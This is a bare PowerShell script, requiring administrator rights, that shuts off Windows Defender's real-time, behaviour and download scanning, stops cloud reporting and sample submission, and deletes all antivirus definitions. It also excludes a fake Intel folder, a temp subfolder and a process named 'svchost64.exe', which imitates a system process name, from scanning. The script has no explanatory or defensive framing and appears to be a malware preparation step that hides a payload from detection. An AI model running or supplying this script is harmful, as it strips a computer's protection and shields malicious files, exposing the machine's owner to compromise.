#Requires -RunAsAdministrator
$paths = @('C:\ProgramData\Intel', "$env:LOCALAPPDATA\Temp\ti")

Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2

foreach ($p in $paths) {
    Add-MpPreference -ExclusionPath $p
}
Add-MpPreference -ExclusionProcess 'svchost64.exe'

& "$env:ProgramFiles\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All
